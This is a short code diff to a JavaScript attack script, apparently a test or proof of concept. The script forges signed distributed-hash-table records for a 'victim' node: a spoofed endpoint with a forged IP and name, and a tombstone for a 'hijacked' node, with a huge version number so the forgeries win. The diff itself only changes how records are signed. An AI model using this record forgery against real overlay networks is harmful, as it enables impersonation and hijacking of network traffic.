@@ -30,12 +30,12 @@ const e = process.env;
     await new Promise((r) => setTimeout(r, 100));
   }
   const victim = e.VICTIM;
-  const signer = new o.RecordSigner(identity);
+  const sign = o.recordSigner(identity.seed);
   const admission = o.admissionOf(tok.key, o.nodeIdBytes(victim));
   const ip = IpAddr.parse(e.FORGED_IP);
   const forge = (body, tombstone) => {
-    const r = { owner: victim, key: o.keyOf(body), version: 1n << 40n, tombstone, body };
-    return { ...r, admission, signature: signer.sign(o.signingBytes(r)) };
+    const r = { owner: victim, key: o.keyOf(body), version: 1n << 40n, tombstone, body, admission };
+    return { ...r, signature: sign(r) };
   };
   const endpoint = forge({ type: 'endpoint', endpoint: { networkId: e.NETWORK, endpointId: 'f'.repeat(64), name: e.FORGED_NAME, aliases: [], ip, mac: MacAddr.fromIpv4(ip), vtep: IpAddr.parse(e.HOST) } }, false);
   const node = forge({ type: 'node', node: { name: 'hijacked', advertiseAddr: IpAddr.parse(e.HOST), dhtPort: 7946 } }, true);
